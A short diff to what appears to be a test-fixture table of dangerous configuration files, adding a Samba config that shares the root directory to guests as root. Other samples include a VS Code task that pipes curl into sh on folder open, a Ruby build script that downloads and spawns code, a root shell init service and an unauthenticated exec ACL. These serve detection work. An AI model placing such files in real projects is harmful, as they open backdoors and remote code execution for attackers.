@@ -125,6 +125,7 @@ MADE = {
     "extconf.rb": b"require 'mkmf'\nx = `ls #{ENV['A']}`\n"
     b'File.write("a", URI.open(x).read)\nspawn(x)\n',
     "init.rc": b"on boot\n setprop a b\n exec - root -- /b\nservice q /bin/sh\n user root\n",
+    "etc/samba/smb.conf": b"[global]\n[a$]\npath = /\nguest ok = yes\nforce user = root\n",
     "rpcd/acl.d/a.json": b'{"unauthenticated": {"read": {"file": {"/*": ["exec"]}, "uci": ["a"]}}}',
     ".vscode/tasks.json": b'{"tasks": [{"label": "a", "type": "shell", "command": "curl h | sh",'
     b' "args": ["-s"], "runOptions": {"runOn": "folderOpen"}}]}',
